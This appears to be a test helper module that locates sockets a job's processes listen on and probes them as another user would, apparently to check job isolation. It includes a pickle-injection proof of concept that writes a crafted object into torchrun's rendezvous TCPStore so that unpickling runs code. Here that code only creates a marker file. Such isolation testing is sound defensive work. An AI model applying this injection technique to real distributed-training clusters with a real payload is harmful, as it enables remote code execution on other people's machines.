"""Helpers that find listening sockets of processes and attack them, as another user could."""

from __future__ import annotations

import base64
import ipaddress
import os
import pickle
import socket
import subprocess
import sys
from contextlib import suppress
from pathlib import Path
from typing import Any

from jobs.worker.fork_server import descendants
from tests.jobs.harness import PATIENCE_S

STRANGER = "127.0.0.99"  # an address of this machine that no node of a job has
LISTENS = "0A"  # state of a socket in /proc/net/tcp


def listening(root: int) -> set[tuple[str, int]]:
    """Return the address and port of each TCP socket that a process or a descendant listens on."""
    inodes = set()
    for pid in (root, *descendants(root)):
        with suppress(FileNotFoundError):  # the process has ended, or closed the file
            for handle in Path(f"/proc/{pid}/fd").iterdir():
                inodes.add(os.readlink(handle).removeprefix("socket:[").rstrip("]"))
    found = set()
    for name in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]:
            columns = line.split()
            if columns[3] == LISTENS and columns[9] in inodes:
                address, port = columns[1].split(":")
                words = [bytes.fromhex(address[i : i + 8])[::-1] for i in range(0, len(address), 8)]
                found.add((str(ipaddress.ip_address(b"".join(words))), int(port, 16)))
    return found


def is_loopback(address: str) -> bool:
    ip = ipaddress.ip_address(address.removeprefix("::ffff:"))  # an IPv4 address in tcp6
    return ip.is_loopback


def connect(address: tuple[str, int]) -> socket.socket:
    connected = socket.create_connection(address, PATIENCE_S, source_address=(STRANGER, 0))
    connected.settimeout(None)
    return connected


class Bomb:
    """An object that creates a file when it is unpickled."""

    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.path,)


def attack(rank: int, bomb: Path) -> None:
    """Do what makes torchrun's own rendezvous execute code: write a pickle to its store."""
    words = Path(f"/proc/{rank}/environ").read_bytes().decode().split("\0")
    environment = dict(word.split("=", 1) for word in words if "=" in word)
    key = f"torch.rendezvous.{environment['TORCHELASTIC_RUN_ID']}"
    value = base64.b64encode(pickle.dumps(Bomb(bomb))).decode()
    # In another process, since this one never imports torch.
    code = "import sys; from torch.distributed import TCPStore\n"
    code += "TCPStore(sys.argv[1], int(sys.argv[2]), is_master=False).set(*sys.argv[3:])"
    address = environment["MASTER_ADDR"], environment["MASTER_PORT"]
    subprocess.run([sys.executable, "-c", code, *address, key, value], check=True)
